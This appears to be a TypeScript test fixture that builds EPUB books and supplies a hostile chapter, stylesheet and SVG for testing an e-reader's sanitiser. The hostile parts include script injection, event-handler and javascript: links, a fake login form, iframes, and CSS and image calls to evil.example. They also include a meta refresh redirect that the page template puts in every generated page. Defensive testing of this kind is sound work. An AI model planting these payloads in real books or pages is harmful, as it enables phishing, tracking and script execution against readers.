import { strToU8, zipSync } from 'fflate'

const OPF = (language: string, manifest: string) => `<package xmlns="http://www.idpf.org/2007/opf" version="3.0">
<metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Bound for a story</dc:title><dc:language>${language}</dc:language></metadata>
<manifest><item id="nav" href="nav.xhtml" media-type="application/xhtml+xml" properties="nav"/>${manifest}</manifest>`

const page = (body: string) => `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"
 xmlns:epub="http://www.idpf.org/2007/ops" xmlns:xlink="http://www.w3.org/1999/xlink"><head><title>x</title>
 <link rel="stylesheet" href="style.css"/><meta http-equiv="refresh" content="0;url=https://evil.example/"/></head><body>${body}</body></html>`

type Parts = { chapters: Record<string, string>; files?: Record<string, string>; language?: string }

/** A book with these chapters, bound as a shop would get it. */
export function bindEpub({ chapters, files = {}, language = 'en' }: Parts): Buffer {
  const names = Object.keys(chapters)
  const items = names.map((name) => `<item id="${name}" href="${name}.xhtml" media-type="application/xhtml+xml"/>`)
  const order = names.map((name) => `<itemref idref="${name}"/>`)
  const lines = names.map((name) => `<li><a href="${name}.xhtml">${name}</a></li>`)
  const css = '<item id="css" href="style.css" media-type="text/css"/>'
  const parts: Record<string, string> = {
    mimetype: 'application/epub+zip',
    'META-INF/container.xml': '<container><rootfiles><rootfile full-path="B/b.opf"/></rootfiles></container>',
    'B/b.opf': `${OPF(language, css + items.join(''))}<spine>${order.join('')}</spine></package>`,
    'B/nav.xhtml': page(`<nav epub:type="toc"><ol>${lines.join('')}</ol></nav>`),
    'B/style.css': '',
    ...Object.fromEntries(names.map((name) => [`B/${name}.xhtml`, page(chapters[name] ?? '')])),
    ...Object.fromEntries(Object.entries(files).map(([name, text]) => [`B/${name}`, text])),
  }
  return Buffer.from(zipSync(Object.fromEntries(Object.entries(parts).map(([name, text]) => [name, strToU8(text)]))))
}

/** Everything that a book might try on whoever reads it. Each attempt that works says so in `window.harmed`. */
export const HOSTILE_CHAPTER = `<p id="first">Quiet words.</p>
<script>window.harmed = 'script'</script><script xmlns="http://www.w3.org/2000/svg">window.harmed = 'svg script'</script>
<img src="none.png" alt="a lost picture" onerror="window.harmed = 'onerror'"/>
<img src="https://evil.example/pixel.png" alt="a foreign picture" style="background:url(https://evil.example/style.png)"/>
<img src="drawing.svg" alt="a drawing"/>
<svg xmlns="http://www.w3.org/2000/svg" onload="window.harmed = 'svg'" width="10" height="10"><a xlink:href="javascript:harmed=1"><text y="9">x</text></a>
<image href="https://evil.example/inside.png" width="5" height="5"/><foreignObject><iframe src="https://evil.example/"/></foreignObject></svg>
<p><a href="javascript:window.harmed='link'">a bad link</a> <a href="data:text/html,&lt;script>x&lt;/script>">another bad link</a>
<a href="https://example.com/" target="_top" onclick="window.harmed='click'">a link away</a> <a href="two.xhtml#there">a link to there</a>
<a href="two.xhtml#remark" epub:type="noteref">1</a></p>
<form action="https://evil.example/"><input name="password"/><button>Log in</button></form>
<iframe src="https://evil.example/frame"/><object data="https://evil.example/object"/><embed src="https://evil.example/embed"/>
<video src="https://evil.example/film.mp4" autoplay=""/><link rel="stylesheet" href="https://evil.example/a.css"/>
<base href="https://evil.example/"/><style>@import url(https://evil.example/b.css); p { color: red }</style>
<p data-book-picture="https://evil.example/own.png" data-book-away="javascript:1" style="position:fixed;inset:0">The end of it.</p>`

export const HOSTILE_FILES = {
  'style.css': `@import url("https://evil.example/c.css"); @font-face { font-family: x; src: url(https://evil.example/x.woff2) }
:host { display: none } p { background: url(https://evil.example/d.png); position: fixed; text-align: center; color: red }`,
  'drawing.svg': `<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="parent.harmed='drawing'"><script>parent.harmed='drawing'</script>
<image href="https://evil.example/deep.png" width="9" height="9"/><rect width="20" height="20" fill="teal"/></svg>`,
}
